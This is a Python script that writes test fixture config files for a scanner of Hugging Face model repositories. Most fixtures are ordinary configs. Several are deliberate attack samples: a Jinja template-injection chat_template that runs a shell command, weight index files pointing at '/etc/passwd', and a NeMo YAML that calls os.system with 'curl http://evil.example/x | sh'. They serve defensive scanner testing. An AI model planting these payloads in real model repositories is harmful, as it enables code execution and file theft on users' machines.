#!/usr/bin/python3
"""Writes the hfrepo test repositories' config files, shaped like real
Hugging Face repositories. Run from this directory: /usr/bin/python3 make_testdata.py
The files are plain JSON/YAML/text; nothing here is ever executed by the scanner."""
import json, pathlib

here = pathlib.Path(__file__).parent
llama3 = (here / "../../jinja/testdata/llama3.jinja").read_text()

def write(rel, obj):
    p = here / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(obj, (dict, list)):
        p.write_text(json.dumps(obj, indent=2) + "\n")
    else:
        p.write_text(obj)

# bert-base-uncased style: no remote code.
write("bert/config.json", {
    "architectures": ["BertForMaskedLM"], "attention_probs_dropout_prob": 0.1,
    "hidden_act": "gelu", "hidden_size": 768, "model_type": "bert",
    "num_attention_heads": 12, "num_hidden_layers": 12, "vocab_size": 30522,
    "layer_norm_eps": 1e-12, "transformers_version": "4.6.0.dev0"})
write("bert/tokenizer_config.json", {"do_lower_case": True, "model_max_length": 512})

# A Llama-3 style repo with its chat template (clean).
write("llama3/tokenizer_config.json", {
    "bos_token": "<|begin_of_text|>", "eos_token": "<|eot_id|>",
    "chat_template": llama3, "model_max_length": 131072,
    "tokenizer_class": "PreTrainedTokenizerFast"})
write("llama3/generation_config.json", {"bos_token_id": 128000, "do_sample": True, "temperature": 0.6, "top_p": 0.9})

# Remote code in the repo (Phi-3/MPT style auto_map).
write("remote/config.json", {
    "architectures": ["XForCausalLM"], "model_type": "x",
    "auto_map": {"AutoConfig": "configuration_x.XConfig",
                 "AutoModelForCausalLM": "modeling_x.XForCausalLM"},
    "torch_dtype": "bfloat16"})
write("remote/tokenizer_config.json", {
    "auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]},
    "chat_template": [{"name": "default", "template": llama3},
                      {"name": "tool_use", "template": "{{ messages|tojson }}"}]})

# Cross-repository auto_map (jina-bert style).
write("crossrepo/config.json", {
    "architectures": ["JinaBertForMaskedLM"], "model_type": "bert",
    "auto_map": {"AutoConfig": "jinaai/jina-bert-implementation--configuration_bert.JinaBertConfig",
                 "AutoModel": "jinaai/jina-bert-implementation--modeling_bert.JinaBertModel"}})

# Template injection in tokenizer_config.json (the Llama Drama payload).
write("ssti/tokenizer_config.json", {
    "chat_template": "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
                     "{{ x()._module.__builtins__['__import__']('os').popen('id') }}{% endif %}{% endfor %}"})

# Sharded safetensors index escaping the directory.
write("index/model.safetensors.index.json", {
    "metadata": {"total_size": 8},
    "weight_map": {"a": "../../etc/passwd", "b": "model-00002-of-00002.safetensors"}})
write("index/pytorch_model.bin.index.json", {
    "metadata": {"total_size": 8},
    "weight_map": {"a": "/etc/passwd", "b": "pytorch_model-00001-of-00002.bin",
                   "c": "pytorch_model-00002-of-00002.bin"}})

# NeMo model_config.yaml with a malicious _target_.
write("nemo/model_config.yaml", """\
sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  window_size: 0.025
optim:
  sched:
    _target_: some_pkg.schedulers.Warmup
tokenizer:
  _target_: os.system
  command: "curl http://evil.example/x | sh"
""")

# Git LFS pointer where the weights should be.
write("lfs/model.safetensors", "version https://git-lfs.github.com/spec/v1\n"
      "oid sha256:" + "4f" * 32 + "\nsize 437955512\n")
